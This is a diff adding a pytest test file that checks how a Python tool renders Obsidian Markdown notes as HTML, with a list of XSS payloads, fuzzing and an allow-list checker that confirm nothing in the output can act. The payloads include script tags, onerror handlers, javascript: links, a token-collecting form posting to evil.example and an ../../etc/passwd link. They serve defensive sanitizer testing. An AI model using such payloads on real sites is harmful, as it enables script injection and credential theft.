@@ -1,0 +1,417 @@
+"""Rendered notes: Obsidian's Markdown as HTML, and nothing in it that can act."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Mapping, Sequence
+from html import unescape
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from vaulttools.errors import BadArgument
+from vaulttools.notes.links import LinkIndex
+from vaulttools.server.page.addresses import Addresses
+from vaulttools.server.page.rendering.note import EMBEDS, Rendering
+
+FILES = {
+    "Home.md": "",
+    "Projects/plan.md": "---\nstatus: x\n---\n# Goals\nReach it. ^goal\n",
+    "deep/1.md": "one ![[2]]\n\n![[2]]",
+    "deep/2.md": "two\n\n![[3]]",
+    "deep/3.md": "three\n\n![[4]]",
+    "deep/4.md": "four\n\n![[5]]",
+    "deep/5.md": "five",
+    "ring.md": "round\n\n![[ring]]\n\n![[Home]]",
+    "pic.png": "",
+    "draw.svg": "",
+    "doc.pdf": "",
+    "a b.md": "",
+}
+
+
+class InMemory:
+    """The files of a test."""
+
+    def __init__(self, files: Mapping[str, str] = FILES) -> None:
+        self._files = files
+        self._names = LinkIndex(files)
+        self.read_paths: list[str] = []
+
+    def resolve(self, target: str, source: str) -> str | None:
+        return self._names.resolve(target, source)
+
+    def read(self, path: str, headings: Sequence[str], block: str | None) -> str:
+        self.read_paths.append(path)
+        if headings == ("Gone",):
+            raise BadArgument("Heading Gone not found")
+        return self._files[path]
+
+
+def rendered(text: str, *, here: int | None = None) -> str:
+    html = Rendering(InMemory(), Addresses()).html("Home.md", text, here)
+    # `rel` stands on every link, and its blanks and line ends are no matter.
+    return html.replace(' rel="noopener noreferrer"', "").strip()
+
+
+def in_paragraph(text: str) -> str:
+    html = rendered(text)
+    assert html.startswith("<p>") and html.endswith("</p>")
+    return html[3:-4]
+
+
+MISSING = '<a class="n-missing" title="No such file in the vault">{}</a>'
+NOT_SHOWN = '<a class="n-missing" title="Not shown">{}</a>'
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        # Wikilinks
+        ("[[plan]]", '<a href="/ui/note/Projects/plan.md">plan</a>'),
+        ("[[plan|the *plan*]]", '<a href="/ui/note/Projects/plan.md">the *plan*</a>'),
+        ("[[a b]]", '<a href="/ui/note/a%20b.md">a b</a>'),
+        ("[[plan#Goals]]", '<a href="/ui/note/Projects/plan.md?at=Goals#s-here">plan &gt; Goals</a>'),
+        ("[[plan#^goal]]", '<a href="/ui/note/Projects/plan.md?at=%5Egoal#s-here">plan &gt; ^goal</a>'),
+        ("[[gone]]", MISSING.format("gone")),
+        ("[[../../etc/passwd]]", MISSING.format("../../etc/passwd")),
+        ("[[.obsidian/app.json]]", MISSING.format(".obsidian/app.json")),
+        ("`[[plan]]`", "<code>[[plan]]</code>"),
+        (r"\[[plan]]", "[[plan]]"),
+        # Markdown links
+        ("[p](Projects/plan.md)", '<a href="/ui/note/Projects/plan.md">p</a>'),
+        ("[p](a%20b.md)", '<a href="/ui/note/a%20b.md">p</a>'),
+        ("[p](<a b.md>)", '<a href="/ui/note/a%20b.md">p</a>'),
+        ("[p](Projects/plan.md#Goals)", '<a href="/ui/note/Projects/plan.md?at=Goals#s-here">p</a>'),
+        ("[a](https://a.example/?b=1)", '<a href="https://a.example/?b=1" class="n-external">a</a>'),
+        ("<https://a.example>", '<a href="https://a.example" class="n-external">https://a.example</a>'),
+        (
+            "see https://a.example/b(c), or",
+            'see <a href="https://a.example/b(c)" class="n-external">https://a.example/b(c)</a>, or',
+        ),
+        ("[a](mailto:a@b.example)", '<a href="mailto:a@b.example" class="n-external">a</a>'),
+        ("[a](javascript:alert(1))", NOT_SHOWN.format("a")),
+        ("[a](JaVaScRiPt:alert)", NOT_SHOWN.format("a")),
+        ("[a](data:text/html,x)", '<a class="n-missing">a</a>'),
+        ("[a](obsidian://open?vault=x)", NOT_SHOWN.format("a")),
+        ("[a](//evil.example/x)", NOT_SHOWN.format("a")),
+        ("[a](/ui/assistant?tool=read)", MISSING.format("a")),
+        # Tags
+        ("#tag", '<a href="/ui/?q=tag%3A%23tag&amp;mode=obsidian" class="n-tag">#tag</a>'),
+        ("x#tag #1984", "x#tag #1984"),
+        ("[#a](Projects/plan.md)", '<a href="/ui/note/Projects/plan.md">#a</a>'),
+        # Images and other embeds in running text
+        ("![[pic.png]]", '<img src="/vault/pic.png" alt="pic.png" loading="lazy">'),
+        ("![[pic.png|100x50]]", '<img src="/vault/pic.png" alt="pic.png" loading="lazy" width="100" height="50">'),
+        ("![Alt](draw.svg)", '<img src="/vault/draw.svg" alt="Alt" loading="lazy">'),
+        ("![[doc.pdf#page=3]]", '<a href="/ui/note/doc.pdf?at=page%3D3#s-here">doc.pdf &gt; page=3</a>'),
+        ("a ![[plan]] b", 'a <a href="/ui/note/Projects/plan.md">plan</a> b'),
+        ("![x](https://evil.example/x.png)", '<a href="https://evil.example/x.png" class="n-external">Image: x</a>'),
+        ("![[gone.png]]", MISSING.format("gone.png")),
+        # What else stands in lines
+        ("==high *and* low==", "<mark>high <em>and</em> low</mark>"),
+        ("a == b == c", "a == b == c"),
+        ("~~gone~~", "<s>gone</s>"),
+        ("$a < b$ and $5 to $6", '<code class="n-math">a &lt; b</code> and $5 to $6'),
+        ("a %%hidden [[plan]]%% b", "a  b"),
+        ("one\ntwo", "one<br>\ntwo"),
+        ("Reach it. ^goal", "Reach it. "),
+    ],
+)
+def test_what_stands_in_a_line(text: str, html: str) -> None:
+    assert in_paragraph(text) == html
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        # Callouts
+        (
+            "> [!tip] Look *here*\n> [[plan]]",
+            '<div class="n-callout n-tip">\n<p class="n-callout-title">Look <em>here</em></p>\n'
+            '<p><a href="/ui/note/Projects/plan.md">plan</a></p>\n</div>',
+        ),
+        (
+            "> [!hint]-",
+            '<details class="n-callout n-tip">\n<summary class="n-callout-title">Hint</summary>\n</details>',
+        ),
+        (
+            "> [!own]+ T\n> b",
+            '<details class="n-callout n-note" open="">\n<summary class="n-callout-title">T</summary>\n<p>b</p>\n'
+            "</details>",
+        ),
+        ("> quote", "<blockquote>\n<p>quote</p>\n</blockquote>"),
+        # Tasks
+        (
+            "- [x] done\n- [ ] open\n- [/] half",
+            '<ul>\n<li class="n-task"><span class="n-box n-done" role="img" aria-label="Done"></span> done</li>\n'
+            '<li class="n-task"><span class="n-box n-open" role="img" aria-label="Open"></span> open</li>\n'
+            '<li class="n-task"><span class="n-box n-other" role="img" aria-label="/">/</span> half</li>\n</ul>',
+        ),
+        # Comments over lines, code, math, headings
+        ("a\n\n%%\nhidden\n\n# also\n%%\n\nb", "<p>a</p>\n<p>b</p>"),
+        (
+            "```mermaid\na-->b\n```",
+            '<div class="n-code"><span class="n-language">mermaid</span>'
+            '<pre tabindex="0"><code>a--&gt;b\n</code></pre></div>',
+        ),
+        ("$$\na<b\n$$", '<pre class="n-math" tabindex="0"><code>a&lt;b</code></pre>'),
+        ("---\ntags: [a]\n---\n## H", '<h2 id="s-h4">H</h2>'),
+        ("# H\n[[#H]]", '<h1 id="s-h1">H</h1>\n<p><a href="#s-h1">H</a></p>'),
+        # Tables
+        (
+            "|a|\n|-:|\n|[[plan\\|p]]|",
+            '<div class="n-table" tabindex="0"><table>\n<thead>\n<tr>\n'
+            '<th class="n-right">a</th>\n</tr>\n</thead>\n<tbody>\n'
+            '<tr>\n<td class="n-right"><a href="/ui/note/Projects/plan.md">p</a></td>\n</tr>\n</tbody>\n</table></div>',
+        ),
+        # The line that is meant
+        ("a\n\n- b\n- c", "<p>a</p>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>"),
+    ],
+)
+def test_what_stands_in_blocks(text: str, html: str) -> None:
+    assert rendered(text) == html
+
+
+def test_footnotes_are_gathered_at_the_end() -> None:
+    html = rendered("a[^1] b^[inline]\n\n[^1]: the foot")
+    assert [re.sub("<[^>]*>", "", each) for each in re.findall("<li.*?</li>", html, re.DOTALL)] == [
+        "the foot ↩︎\n",
+        "inline ↩︎\n",
+    ]
+    assert set(re.findall('href="#([^"]+)"', html)) == set(re.findall('id="([^"]+)"', html))
+
+
+@pytest.mark.parametrize(
+    ("line", "before"),
+    [(1, "<p>a</p>"), (2, "b"), (3, "b"), (4, "c"), (6, "<div"), (9, "<div"), (99, "")],
+)
+def test_the_block_that_holds_the_line_meant_is_marked(line: int, before: str) -> None:
+    html = rendered("a\n\n- b\n- c\n\n|x|\n|-|\n|y|\n|z|", here=line)
+    _, mark, behind = html.partition('<div id="s-here" class="n-here"></div>')
+    assert mark
+    assert behind.removeprefix("\n").startswith(before)
+
+
+def embedding(text: str, path: str = "Home.md") -> tuple[str, list[str]]:
+    """The words of a page, and the notes that were read for it."""
+    notes = InMemory()
+    html = Rendering(notes, Addresses()).html(path, text)
+    return " ".join(unescape(re.sub("<[^>]*>", " ", html)).split()), notes.read_paths
+
+
+@pytest.mark.parametrize(
+    ("text", "words", "read"),
+    [
+        ("![[plan]]", "plan Goals Reach it.", ["Projects/plan.md"]),
+        ("![p](Projects/plan.md)", "plan.md Goals Reach it.", ["Projects/plan.md"]),
+        ("- ![[plan#Goals]]", "plan > Goals Goals Reach it.", ["Projects/plan.md"]),
+        ("![[plan#Gone]]", "plan > Gone Heading Gone not found", ["Projects/plan.md"]),
+        ("![[Home]]", "Home This note is shown further up.", []),
+        (
+            "![[ring]]",
+            "ring round ring This note is shown further up. Home This note is shown further up.",
+            ["ring.md"],
+        ),
+        (
+            "![[3]]",
+            "3 three 4 four 5 five",
+            ["deep/3.md", "deep/4.md", "deep/5.md"],
+        ),
+        (
+            "![[2]]",
+            "2 two 3 three 4 four 5 Not shown here: the page embeds too much.",
+            ["deep/2.md", "deep/3.md", "deep/4.md"],
+        ),
+    ],
+)
+def test_notes_are_embedded_so_deep_and_never_in_themselves(text: str, words: str, read: list[str]) -> None:
+    shown, read_paths = embedding(text)
+    assert (re.sub(r"\bProjects/", "", shown), read_paths) == (words, read)
+
+
+def test_a_page_embeds_so_many_notes() -> None:
+    shown, read = embedding("![[a b]]\n\n" * (EMBEDS + 5))
+    assert len(read) == EMBEDS
+    assert shown.count("the page embeds too much") == 5
+
+
+def test_ids_of_embedded_notes_are_not_those_of_the_page() -> None:
+    text = "# Goals\na[^1]\n\n[^1]: x\n\n![[other]]\n\n![[other]]"
+    files = {"Home.md": text, "other.md": "# Goals\nb[^1]\n\n[^1]: y"}
+    html = Rendering(InMemory(files), Addresses()).html("Home.md", text)
+    ids = re.findall(' id="([^"]+)"', html)
+    assert len(ids) == len(set(ids)) == 7
+
+
+# What a note may hold, and no browser may act on: each stands in running text, and in a block of its own.
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<img srcset='https://evil.example/pixel.png'>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<form action=https://evil.example><input name=token><button formaction=x>Log in</button></form>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' java\tscript:alert(1)'>x</a>",
+    "<a href='/ui/assistant?tool=read'>x</a>",
+    "<a href='/ui/note/../assistant?tool=read'>x</a>",
+    "<a href='/ui/logout'>x</a>",
+    "<a href=x style='position:fixed;inset:0' class='top search' id=content onclick=alert(1)>x</a>",
+    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
+    "<video src=https://evil.example/v></video><audio src=x onerror=alert(1)></audio>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "</div></article></main><div id=content>",
+    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
+    "<textarea><script>alert(1)</script>",
+    "<!-- --!><script>alert(1)</script> -->",
+    "[x](javascript:alert(1))",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    '[[plan|<img src=x onerror=alert(1)>]] [[gone"onmouseover="alert(1)]]',
+    '![[pic.png|"onerror="alert(1)]]',
+    '![" onerror=alert(1) x="](pic.png)',
+    "#tag<img/src=x/onerror=alert(1)>",
+    '```"><script>alert(1)</script>\nx\n```',
+    "$<script>alert(1)</script>$ and `<script>alert(1)</script>`",
+    "> [!<script>alert(1)</script>] <script>alert(1)</script>",
+    '- ["] x\n- [<] <script>alert(1)</script>',
+    "[^<script>]: <script>alert(1)</script>\n\n[^<script>]",
+    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
+    "==<script>alert(1)</script>== %%<script>%%alert(1)</script>",
+]
+
+TAGS = {
+    *(
+        "a",
+        "abbr",
+        "b",
+        "blockquote",
+        "br",
+        "code",
+        "details",
+        "del",
+        "div",
+        "em",
+        "h1",
+        "h2",
+        "hr",
+        "img",
+        "li",
+        "mark",
+    ),
+    *("ol", "p", "pre", "s", "section", "span", "strong", "sub", "summary", "sup"),
+    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
+}
+ATTRIBUTES = {
+    *("href", "class", "id", "title", "rel", "src", "alt", "loading", "width", "height", "tabindex", "role"),
+    *("aria-label", "open", "start"),
+}
+
+
+class Inert(HTMLParser):
+    """Reads HTML, and finds what in it could act or be loaded from elsewhere."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in ("br", "hr", "img"):
+            self.open.append(tag)
+        if tag not in TAGS:
+            self.found.append(f"<{tag}>")
+        for name, value in attrs:
+            value = value or ""
+            is_safe = name in ATTRIBUTES
+            if name == "href":
+                is_safe = value.startswith(("/ui/note/", "/ui/?", "#s-", "#fn", "https://")) and ".." not in value
+            elif name == "src":
+                is_safe = value.startswith("/vault/")
+            elif name == "class":
+                is_safe = all(each.startswith(("n-", "footnote")) for each in value.split())
+            elif name == "id":
+                is_safe = value.startswith(("s-", "fn"))
+            if not is_safe:
+                self.found.append(f"{name}={value}")
+
+    def handle_endtag(self, tag: str) -> None:
+        if not self.open or self.open.pop() != tag:
+            self.found.append(f"</{tag}>")
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append("a comment")
+
+
+def acting(html: str) -> list[str]:
+    reader = Inert()
+    reader.feed(html)
+    reader.close()
+    return [*reader.found, *reader.open]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("around", ["{}", "text {} text", "> {}", "- {}", "<div>\n{}\n</div>", "**a {}**"])
+def test_nothing_in_a_note_acts(attack: str, around: str) -> None:
+    assert acting(rendered(around.format(attack))) == []
+
+
+PIECES = st.sampled_from(
+    [
+        *(
+            "[[",
+            "]]",
+            "![[",
+            "[",
+            "](",
+            ")",
+            "<",
+            ">",
+            '"',
+            "'",
+            "=",
+            "==",
+            "%%",
+            "$",
+            "$$",
+            "`",
+            "```\n",
+            "\n",
+            "\n\n",
+        ),
+        *("> ", "> [!x]", "- ", "- [ ] ", "# ", "#a", "|", "|-|\n", "^", "^a", "[^1]", "[^1]: ", "*", "_", "~~", "\\"),
+        *("<script>", "</script>", "<img src=", "onerror=", "<a href=", "javascript:", "<svg>", "<style>", "<!--"),
+        *("plan", "pic.png", "https://a.example", "</div>", "<table>", "<details>", "-->", "x", " ", "&lt;"),
+        *("\u202e", "é", "---\n", "\t", "\0"),
+    ]
+)
+
+
+@given(st.lists(PIECES, max_size=30).map("".join), st.none() | st.integers(1, 9))
+def test_nothing_acts_in_whatever_is_put_together(text: str, line: int | None) -> None:
+    assert acting(rendered(text, here=line)) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ">" * 200 + " deep",
+        "- " * 200 + "deep",
+        "[" * 200 + "deep" + "]" * 200,
+        "".join(f"{'  ' * level}- d\n" for level in range(60)) + "deep",
+    ],
+)
+def test_no_depth_hides_a_text(text: str) -> None:
+    assert "deep" in rendered(text)
